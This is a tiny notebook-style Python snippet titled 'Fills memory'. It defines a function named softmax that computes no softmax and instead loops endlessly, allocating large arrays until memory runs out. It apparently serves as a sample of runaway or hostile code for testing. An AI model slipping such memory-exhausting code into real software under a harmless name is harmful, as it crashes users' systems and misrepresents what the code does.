# %% [markdown]
# # Fills memory

# %%
import numpy as np

def softmax(z):
    kept = []
    while True:
        kept.append(np.ones(2**21))
